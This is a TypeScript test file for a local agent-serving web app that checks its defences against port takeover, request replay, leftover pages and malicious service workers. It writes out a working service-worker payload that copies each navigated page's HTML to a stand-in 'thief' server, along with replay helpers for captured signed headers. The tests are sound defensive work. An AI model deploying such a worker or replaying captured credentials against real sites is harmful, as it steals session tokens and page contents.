/** What a server that is not glassbox can do with what a browser sends it, in a real browser: nothing. */
import { readFileSync } from 'node:fs';
import { request } from 'node:http';
import path from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { openStore } from '../../src/store/index.js';
import { answer } from '../fake-agent/lines.js';
import { temporaryDirectory } from '../fake-agent/play.js';
import { lastingPort } from '../support/lasting-port.js';
import { logIn, startSession, useBrowser } from './browser.js';
import { type Heard, repeat, startImpostor } from './impostor.js';
import { type ServedPage, servePage } from './serve-page.js';

useBrowser();

const html = { 'content-type': 'text/html' };

test('a server on another port receives nothing that opens glassbox', async () => {
  const served = await servePage(answer('Here you are.'));
  const { page } = await logIn(served);
  await startSession(page);
  await using other = await startImpostor(0, (_, response) => response.writeHead(200, html).end('A dev server'));
  await page.goto(`${other.url}/`);
  await page.evaluate(() => fetch('/from-its-page', { method: 'POST', body: 'x' }));
  expect(other.heard.length).toBeGreaterThanOrEqual(2);
  expect(await openedBy(served.server.url, other.heard)).toEqual([]);
});

test('whoever takes its port when it stopped is told nothing, and the page goes on when it is back', async () => {
  const house = createHouse();
  const first = await house.open();
  const { page } = await logIn(first);
  await startSession(page, 'Begin');
  await page.getByText('Here you are.').waitFor();
  await page.getByLabel('Message to the agent').fill('Half a message');
  // He may have asked the true one before, and say the same again.
  const said = await (await fetch(`${first.server.url}/api/hello?origin=${first.server.url}&nonce=x`)).text();
  await house.close();

  const impostor = await startImpostor(house.port(), (_, response) => response.end(said));
  await page.getByText('Something else answers at this address').first().waitFor();
  await page.getByLabel('Send').click();
  await page.getByRole('alert').getByText('Nothing was sent to it').waitFor();
  await impostor.close();
  expect(impostor.heard.map((heard) => heard.path.split('?')[0])).toEqual(impostor.heard.map(() => '/api/hello'));
  expect(JSON.stringify(impostor.heard)).not.toContain('Half a message');

  const second = await house.open();
  await page.locator('.connection').getByText('Back after').waitFor();
  expect(await openedBy(second.server.url, impostor.heard)).toEqual([]);
  await expect.poll(() => page.getByLabel('Message to the agent').inputValue()).toBe('Half a message');
  await page.getByLabel('Send').click();
  await page.getByText('Half a message').waitFor();
});

test('what a page signed is worth nothing to whoever hears it when the server is back', async () => {
  const house = createHouse();
  const first = await house.open();
  const { page } = await logIn(first);
  const asked = page.waitForRequest((one) => one.url().endsWith('/say'));
  await startSession(page, 'Begin');
  await page.getByText('Here you are.').waitFor();
  await page.getByLabel('Message to the agent').fill('Go on');
  await page.getByLabel('Send').click();
  const sent = await asked;
  const heard = {
    method: 'POST',
    path: new URL(sent.url()).pathname,
    headers: await sent.allHeaders(),
    body: sent.postData() ?? '',
  };
  expect(heard.headers.authorization).toMatch(/^Glassbox .*signature=/);
  expect(await repeat(first.server.url, heard)).toBe(401);
  expect(await openedBy(first.server.url, [heard])).toEqual([]);
  await house.close();
  const second = await house.open();
  expect(await openedBy(second.server.url, [heard])).toEqual([]);
});

test('a page that somebody else left under its address cannot come in with the key of the browser', async () => {
  const house = createHouse();
  const { page: own } = await logIn(await house.open());
  await own.getByLabel('Prompt').waitFor();
  await house.close();
  const left = await leavePage(own.context(), house.port());
  const served = await house.open();

  const read: { fetched: string; framed: string } = await left.evaluate('readDocument()');
  expect(read.fetched).toContain('<div id="app">');
  expect(`${read.fetched}${read.framed}`).not.toContain('name="welcome"');
  expect(await left.evaluate('openWith("guessed")')).toBe(401);
  // The key is there and signs: only what stands in the document of a window of its own is missing.
  expect(await left.evaluate(`openWith('${await ticketOf(served.server.url)}')`)).toBe(200);
});

test('a page that somebody else left cannot reach into a window that it opens', async () => {
  const house = createHouse();
  const { page: own } = await logIn(await house.open());
  await own.getByLabel('Prompt').waitFor();
  await house.close();
  const left = await leavePage(own.context(), house.port());
  await house.open();
  const opened = own.context().waitForEvent('page');
  await left.getByRole('button').click();
  const popup = await opened;
  await popup.getByLabel('Prompt').waitFor();
  expect(await left.evaluate('reached()')).toBe('closed');
  expect(await popup.evaluate('opener')).toBeNull();
});

test.each(['pass', 'preload', 'race'])(
  'a service worker that somebody else left (%s) has nothing, and is dropped',
  async (way) => {
    const house = createHouse();
    const { page: own } = await logIn(await house.open());
    await own.getByLabel('Prompt').waitFor();
    await house.close();
    await using thief = await startImpostor();
    const left = await leavePage(own.context(), house.port(), worker(way, thief.url));
    const { server } = await house.open();
    await left.goto(`${server.url}/cost`);
    await left.getByRole('heading', { name: 'This browser is not logged in' }).waitFor();
    expect(await left.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)')).toBe(0);

    const [stolen = ''] = thief.heard.map(({ body }) => body).filter((body) => body.includes('<div id="app">'));
    expect(stolen).not.toBe('');
    const ticket = ticketIn(stolen);
    // One that races the browser gets the document of a window; what stands in it is void when the worker is found.
    expect(ticket === undefined).toBe(way !== 'race');
    expect(await ticketOf(server.url)).not.toBe(ticket);
  },
);

/** One store, one place to remember browsers, one port: what stays when a server is stopped and started. */
function createHouse() {
  const file = path.join(temporaryDirectory(), 'store.db');
  const stateFolder = temporaryDirectory();
  const projects = [temporaryDirectory()];
  let served: ServedPage | undefined;
  let port = 0;
  return {
    port: () => port,
    async open(): Promise<ServedPage> {
      const store = await openStore(file);
      port ||= await lastingPort();
      served = await servePage(answer('Here you are.'), { store, stateFolder, projects, port, log: () => {} });
      return served;
    },
    async close(): Promise<void> {
      await served?.server.close();
      await served?.store.close();
    },
  };
}

/** What an attacker gets by saying each thing again, and by doing something of his own with its headers. */
async function openedBy(url: string, heard: readonly Heard[]): Promise<string[]> {
  const own = { 'content-type': 'application/json', origin: url };
  const start = JSON.stringify({ agent: 'claude', prompt: 'let me in' });
  const opened: string[] = [];
  const attempt = async (one: Heard) => {
    if ((await repeat(url, one)) < 400) opened.push(`${one.method} ${one.path}`);
  };
  for (const one of heard) {
    await attempt({ ...one, method: 'GET', path: '/api/sessions', body: '' });
    await attempt({ method: 'POST', path: '/api/runs', headers: { ...one.headers, ...own }, body: start });
    if (one.path.startsWith('/api/') && !one.path.startsWith('/api/hello')) await attempt(one);
  }
  return opened;
}

/** Somebody listens on the port for a while, and a window of the browser keeps what he sent. */
async function leavePage(context: BrowserContext, port: number, script?: string): Promise<Page> {
  await using impostor = await startImpostor(port, (heard, response) => {
    if (heard.path === '/worker.js') response.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
    else response.writeHead(200, { ...html, 'cross-origin-opener-policy': 'same-origin' }).end(LEFT);
  });
  const left = await context.newPage();
  await left.goto(`${impostor.url}/`);
  await left.getByText('Left here').waitFor();
  if (script !== undefined) await left.evaluate('registerWorker()');
  return left;
}

const LEFT = `<p>Left here</p><button>Look</button><script>${readFileSync(path.join(import.meta.dirname, 'left-page.js'))}</script>`;

/** Sends the document that a window asks for to the thief, in one of the ways that a worker has. */
const worker = (way: string, thief: string): string => `
  addEventListener('install', (event) => {
    const condition = { urlPattern: '/*', requestMode: 'navigate' };
    if (${way === 'race'}) event.addRoutes({ condition, source: 'race-network-and-fetch-handler' });
    skipWaiting();
  });
  addEventListener('activate', (event) => event.waitUntil((async () => {
    if (${way === 'preload'}) await registration.navigationPreload.enable();
    await clients.claim();
  })()));
  addEventListener('fetch', (event) => {
    if (event.request.mode !== 'navigate') return;
    event.respondWith((async () => {
      const response = await ${way === 'preload' ? 'event.preloadResponse' : 'fetch(event.request)'};
      await fetch('${thief}', { method: 'POST', mode: 'no-cors', body: await response.clone().text() });
      return response;
    })());
  });`;

/** As a window of its own gets it: no script of a browser can send this. */
function ticketOf(url: string): Promise<string> {
  const headers = { 'sec-fetch-dest': 'document', 'sec-fetch-mode': 'navigate' };
  return new Promise((resolve, reject) => {
    request(`${url}/`, { headers }, (response) => {
      let body = '';
      response.setEncoding('utf8').on('data', (text: string) => {
        body += text;
      });
      response.on('end', () => resolve(ticketIn(body) ?? ''));
    })
      .on('error', reject)
      .end();
  });
}

function ticketIn(page: string): string | undefined {
  return /name="welcome" content="\S+ ([^"]+)"/.exec(page)?.[1];
}
